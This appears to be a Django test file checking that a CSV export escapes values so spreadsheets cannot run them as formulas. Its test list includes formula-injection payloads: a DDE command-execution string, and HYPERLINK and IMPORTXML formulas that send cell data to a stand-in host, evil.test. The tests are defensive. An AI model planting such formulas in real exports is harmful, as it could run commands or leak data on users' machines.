import csv
import io
from datetime import datetime

from django.test import TestCase
from django.utils import timezone

from core.staff import spreadsheets

# What spreadsheets take for a formula, and what looks like it and is none.
DANGEROUS = [
    "=1+1", "+1+1", "-1+1", "@SUM(A1)", "\t=1+1", "\r=1+1", "\n=1+1", "=cmd|'/C calc'!A0",
    '=HYPERLINK("http://evil.test?x="&A1,"ok")', '=IMPORTXML("http://evil.test","//a")', "@import", " =1", '"=1","=2"',
    ";=1+1", "＝1+1", "＋1", "－1", "＠x", "'=1", "\0=1+1", "+49 170 1234567", "O'Neil", 'a"b', "a,b", "a;b",
    "line1\nline2", "日本", "",
]  # fmt: skip
HARMLESS = ['"=1","=2"', ";=1+1", "O'Neil", 'a"b', "a,b", "a;b", "line1\nline2", "日本", ""]


class CellTests(TestCase):
    def test_every_text_survives_and_none_is_a_formula(self):
        for text in DANGEROUS:
            written = "".join(spreadsheets.stream(["text", "after"], [[text, "x"]]))

            _header, row = csv.reader(io.StringIO(written.removeprefix("\ufeff"), newline=""))

            assert len(row) == 2, text
            assert row[0] == (text if text in HARMLESS else f"'{text}"), text
            assert not row[0].lstrip(" ").startswith(("=", "+", "-", "@", "\t", "\r", "\n", "\0")), text

    def test_numbers_and_times_stay_what_they_are(self):
        assert spreadsheets.safe(-5) == -5
        assert spreadsheets.safe(None) == ""
        assert (
            spreadsheets.safe(datetime(2026, 3, 1, 12, 30, tzinfo=timezone.get_current_timezone()))
            == "2026-03-01 12:30:00"
        )
